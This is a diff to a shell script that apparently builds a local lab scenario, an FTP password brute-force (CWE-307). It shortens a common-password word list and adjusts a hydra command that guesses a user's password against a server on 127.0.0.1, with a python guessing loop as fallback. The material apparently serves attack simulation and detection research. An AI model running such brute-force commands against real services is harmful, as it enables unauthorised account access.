@@ -4,7 +4,7 @@
 # Normal: a bounded ftplib client that logs in with the right password,
 # lists, downloads, uploads and deletes files.
 # Attack (CWE-307): hydra guessing the user's password from a word list
-# (4 parallel tasks, the right password last); a bounded python ftplib
+# (16 words, 4 parallel tasks, the right password last); a bounded python ftplib
 # guessing loop when hydra is not installed.
 set -euo pipefail
 SCENARIO=ftp-bruteforce
@@ -51,9 +51,8 @@ lab_setup() {
 	# the word list: common passwords, the right one last
 	WORDLIST=$SRV/wordlist.txt
 	printf '%s\n' 123456 password admin root letmein qwerty 111111 abc123 \
-		dragon monkey master welcome login passw0rd football shadow \
-		sunshine iloveyou princess starwars trustno1 secret ftp guest \
-		test changeme "$FTP_PASS" >"$WORDLIST"
+		dragon monkey master welcome login passw0rd secret \
+		"$FTP_PASS" >"$WORDLIST"
 	chmod 600 "$WORDLIST"
 }
 lab_prepare() { : >"$SRV/vsftpd.log"; }
@@ -68,7 +67,7 @@ lab_attack() {
 	local left
 	left=$(awk "BEGIN { t = $REC_END - $(now); printf \"%d\", (t < 1 ? 1 : t) }")
 	if command -v hydra >/dev/null; then
-		(cd "$WORK" && timeout "$left" hydra -I -f -t 4 -w 3 -l "$FTP_USER" -P "$WORDLIST" \
+		(cd "$WORK" && timeout "$left" hydra -I -f -t 4 -l "$FTP_USER" -P "$WORDLIST" \
 			-s "$PORT" 127.0.0.1 ftp) || true
 	else
 		echo "hydra not installed: python ftplib guessing loop"
